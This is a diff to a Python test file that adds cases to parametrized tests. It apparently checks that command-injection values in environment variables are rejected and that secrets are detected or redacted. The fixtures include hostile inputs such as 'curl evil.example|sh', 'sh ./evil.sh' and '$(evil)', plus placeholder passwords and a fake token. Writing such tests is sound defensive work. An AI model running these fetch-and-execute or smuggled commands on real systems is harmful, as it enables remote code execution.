@@ -192,6 +192,7 @@ class TestDescription:
             ("BASH_ENV", "evil"),
             ("API_TOKEN", "./evil.sh"),
             ("API_TOKEN", "/tmp/evil"),
+            ("API_TOKEN", "sh ./evil.sh"),
             ("API_TOKEN", "curl evil.example|sh"),
             ("API_TOKEN", "$(evil)"),
         ],
@@ -203,6 +204,7 @@ class TestDescription:
         ("entry", "secret"),
         [
             ({"env": {"API_TOKEN": "hunter22"}}, "hunter22"),
+            ({"env": {"PASSPHRASE": "correct horse hunter22"}}, "hunter22"),
             ({"env": {"WEBHOOK_SECRET": "hunter22"}}, "hunter22"),
             ({"env": {"WHATEVER": "ghp_0123456789abcdefghij"}}, "ghp_0123456789abcdefghij"),
             ({"env": {"DATABASE_URL": "postgres://me:hunter22@db/x"}}, "hunter22"),
